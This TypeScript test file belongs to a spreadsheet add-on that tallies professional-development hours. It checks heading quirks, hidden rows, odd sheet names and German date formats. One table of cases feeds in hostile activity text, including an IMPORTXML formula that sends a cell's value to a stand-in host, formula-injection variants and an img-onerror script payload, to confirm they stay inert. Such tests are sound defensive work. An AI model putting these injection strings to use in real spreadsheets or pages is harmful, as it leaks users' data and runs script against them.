// What people and other programs do to a workbook, through the built bundle.
import { readFileSync } from 'node:fs';
import type { CheckAnswer } from '../../src/core/protocol/messages';
import { alcto } from '../local/cli/run-alcto';
import { makeSnapshot, openTestHost, type TestCell, valueAt } from './open-test-host';

const NOW = () => Date.UTC(2026, 10, 23, 18);
const HEADINGS = ['Name', 'Activity', 'Date', 'Hours', 'Course', 'Justification', 'Description'];
const day = (text: string) => new Date(`${text}T00:00:00Z`);
const row = (over: Record<number, TestCell> = {}, date = '2026-03-04'): TestCell[] =>
  ['Pat Doe', 'Talk', day(date), 6, 'IT Management', 'Fits the course', 'Two talks'].map(
    (usual, index) => over[index] ?? (usual as TestCell),
  );
const SET_UP: TestCell[][] = [['Issue date', day('2024-09-01')]];
const functions = `${readFileSync('dist/functions.js', 'utf8')}
  const sheetOf = (name) => SpreadsheetApp.getActive().getSheetByName(name);
  function merge(name, place) { sheetOf(name).getRange(place).merge(); }
  function formulas(name) { return sheetOf(name).getDataRange().getFormulas().flat().join(''); }`;

const open = (log: TestCell[][], more: Record<string, TestCell[][]> = {}, name = 'PD Log') =>
  openTestHost({ [name]: log, 'AL-CTO Setup': SET_UP, ...more }, { now: NOW, functions });

function totals(answer: unknown) {
  const checked = answer as CheckAnswer;
  if (!checked.ok) throw new Error(checked.faults.map(({ message }) => message).join(' '));
  return checked.report.applicants[0].hours;
}

const rows = [row(), row({ 1: 'Other talk' }, '2026-03-05')];

test.each([
  ['a ghost space in a heading', HEADINGS.map((text) => (text === 'Hours' ? 'Hours\u00a0' : text))],
  ['an invisible character', HEADINGS.map((text) => (text === 'Course' ? 'Cou\u200brse' : text))],
  ['upper case and line breaks', HEADINGS.map((text) => text.toUpperCase().replace(' ', '\n'))],
])('%s is read all the same', async (_, headings) => {
  const host = await open([headings, ...rows]);
  expect(totals(host.call('checkCompliance'))).toMatchObject({ counted: 12 });
});

test('a heading merged over two columns stands for the first', async () => {
  const wide = [HEADINGS, ...rows].map((cells) => [...cells.slice(0, 4), null, ...cells.slice(4)]);
  const host = await open(wide);
  host.call('merge', 'PD Log', 'D1:E1');
  expect(totals(host.call('checkCompliance'))).toMatchObject({ counted: 12 });
});

test('a helper column of empty texts and tick boxes far down make no rows', async () => {
  const filler = Array.from({ length: 500 }, () => [...HEADINGS.map(() => null), '', false]);
  const host = await open([[...HEADINGS, 'Helper', 'Done'], ...rows, ...filler]);
  const answer = host.call('checkCompliance') as { report: { logs: { rows: number }[] } };
  expect(answer.report.logs[0].rows).toBe(2);
});

test('hidden rows count', async () => {
  const snapshot = makeSnapshot({ 'PD Log': [HEADINGS, ...rows], 'AL-CTO Setup': SET_UP });
  Object.assign(snapshot.sheets.s0, { rowData: { 1: { hd: 1 }, 2: { hd: 1 } } });
  const host = await openTestHost({}, { now: NOW, workbook: { snapshot, notes: [] } });
  expect(totals(host.call('checkCompliance'))).toMatchObject({ counted: 12 });
});

// The local engine takes no “/” or “!” from a sheet's name in a formula; Sheets does.
test.each(["Bob's PD Log 🎓", '2026', '=1+1', 'A & B; C', "'quoted'"])(
  'a sheet named %s is read, named in formulas, and summed up',
  async (name) => {
    const host = await open([HEADINGS, ...rows], { Mine: [['=ALCTO_HOURS()']] }, name);
    expect(totals(host.call('checkCompliance'))).toMatchObject({ counted: 12 });
    await host.settled();
    expect(valueAt(host, 'Mine', 1, 1)).toBe(12);
    expect(host.call('makeSummary')).toMatchObject({ ok: true });
  },
);

test.each([
  ['a call for data', '=IMPORTXML("https://x.test/?d="&A2,"//a")'],
  ['a space before =', ' =1+1'],
  ['a full-width =', '＝1+1'],
  ['an @', '@SUM(1)'],
  ['markup', '<img src=x onerror=alert(1)>'],
  ['replacement signs', 'Cost $& and $1 $$'],
  ['50,000 letters', 'A'.repeat(50_000)],
])('an activity with %s counts and stays text in the Summary', async (_, text) => {
  const host = await open([HEADINGS, row({ 1: { v: text, t: 1 } }), rows[1]]);
  expect(totals(host.call('checkCompliance'))).toMatchObject({ counted: 12 });
  expect(host.call('makeSummary')).toMatchObject({ ok: true });
  expect(host.call('formulas', 'AL-CTO Summary')).toBe('');
});

test('what was written beside the Summary stays when it is made again, and so do formulas that point at it', async () => {
  const host = await open([HEADINGS, ...rows], {});
  host.call('makeSummary');
  host.call('editCells', {
    edits: [{ op: 'insertColumn', sheet: 'AL-CTO Summary', row: 1, column: 39, heading: 'mine' }],
  });
  host.call('makeSummary');
  expect(valueAt(host, 'AL-CTO Summary', 1, 40)).toBe('mine');
});

test('dates and hours as LibreOffice writes them in a German workbook', () => {
  const { stdout } = alcto(
    'check',
    'test/cases/files/german-log-by-libreoffice.xlsx',
    '--issued=2024-06-15',
    '--as-of=2026-11-23',
    '--locale=de_DE',
    '--json',
  );
  const { applicants } = JSON.parse(stdout);
  const seen = applicants[0].rows.map((each: Record<string, unknown>) => [
    each.activity,
    each.status,
    each.date,
    each.hours,
  ]);
  expect(seen).toEqual([
    ['Dot date', 'COUNTED', '2025-10-03', 2],
    ['Slash date', 'COUNTED', '2025-10-03', 1.5],
    // Only English names of months are read.
    ['Month in words', 'HELD', null, 1],
    ['Serial', 'COUNTED', '2025-10-04', 2],
    ['Real date', 'COUNTED', '2025-10-04', 2.5],
    ['Clock text', 'COUNTED', '2025-10-05', 1.5],
    ['Time cell', 'COUNTED', '2025-10-06', 1.75],
    ['Words', 'COUNTED', '2025-10-07', 1.5],
    ['Thousands', 'COUNTED', '2025-10-08', 1],
    ['Full width', 'COUNTED', '2025-10-09', 3],
  ]);
});
